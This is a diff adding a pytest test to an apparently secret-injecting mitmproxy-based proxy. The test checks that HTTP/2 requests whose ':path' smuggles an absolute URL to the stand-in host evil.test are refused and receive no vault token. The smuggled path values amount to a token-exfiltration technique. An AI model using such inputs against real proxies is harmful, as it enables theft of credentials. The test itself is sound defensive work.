@@ -22,6 +22,9 @@ import time
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
+import h2.config
+import h2.connection
+import h2.events
 import pytest
 import requests
 from mitmproxy.net import encoding as mitmproxy_encoding
@@ -110,6 +113,52 @@ def test_a_client_chosen_sni_never_carries_a_secret_elsewhere(
         # The same client naming the destination itself is served.
         assert get(tls_upstream.port, "api.example.com").status == 200
         assert tls_upstream.requests[-1].header("x-token") == TOKEN + "Sni"
+
+
+def h2_exchange(tls: ssl.SSLSocket, authority: str, paths: list[bytes]) -> list[tuple[bytes, bytes | None]]:
+    """GET each of `paths` as an HTTP/2 `:path`, sent as given (an absolute URL too), with
+    `X-Token: <<vault:sni.tok>>`; (status, X-Vaultproxy-Error) of each answer, in order."""
+    config = h2.config.H2Configuration(client_side=True, header_encoding=None, validate_outbound_headers=False)
+    conn = h2.connection.H2Connection(config)
+    conn.initiate_connection()
+    streams = {}
+    for path in paths:
+        stream = conn.get_next_available_stream_id()
+        conn.send_headers(stream, [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", authority.encode()),
+                                   (b":path", path), (b"x-token", b"<<vault:sni.tok>>")], end_stream=True)
+        streams[stream] = None
+    tls.sendall(conn.data_to_send())
+    ended: set[int] = set()
+    while len(ended) < len(streams):
+        data = tls.recv(65536)
+        assert data, "the proxy closed the connection"
+        for event in conn.receive_data(data):
+            if isinstance(event, h2.events.ResponseReceived):
+                headers = dict(event.headers)
+                streams[event.stream_id] = (headers[b":status"], headers.get(b"x-vaultproxy-error"))
+            elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
+                ended.add(event.stream_id)
+        tls.sendall(conn.data_to_send())
+    return [streams[stream] for stream in sorted(streams)]
+
+
+def test_an_http2_path_naming_another_host_gets_no_secret(
+    mitmdump: StartProxy, home: Path, tls_upstream: RecordingUpstream
+) -> None:
+    """An HTTP/2 client names the allowed host everywhere the checks look (CONNECT, SNI,
+    :authority) but sends `:path: https://evil.test/...`: mitmproxy takes it as sent and
+    writes it into an HTTP/1 upstream's request line, whose authority outranks Host (RFC 9112
+    3.2.2): a shared front (CDN, virtual hosts) gives the request to evil.test."""
+    proxy = mitmdump(options={"vault_home": str(home), "connection_strategy": "lazy"}, hosts=EXAMPLE_HOSTS)
+    authority = f"api.example.com:{tls_upstream.port}"
+    client_tls = proxy.ssl_context()
+    client_tls.set_alpn_protocols(["h2"])
+    with connect_tunnel(proxy, authority) as raw, client_tls.wrap_socket(raw, server_hostname="api.example.com") as tls:
+        assert tls.selected_alpn_protocol() == "h2"
+        answers = h2_exchange(tls, authority, [b"https://evil.test/steal", b"http://evil.test/steal", b"//evil.test/steal", b"/ok"])
+    assert answers == [(b"403", b"host_mismatch")] * 3 + [(b"200", None)]
+    (served,) = tls_upstream.requests
+    assert served.target == "/ok" and served.header("x-token") == TOKEN + "Sni"
 
 
 # --- 2. request smuggling through a streamed upload -----------------------------------------------
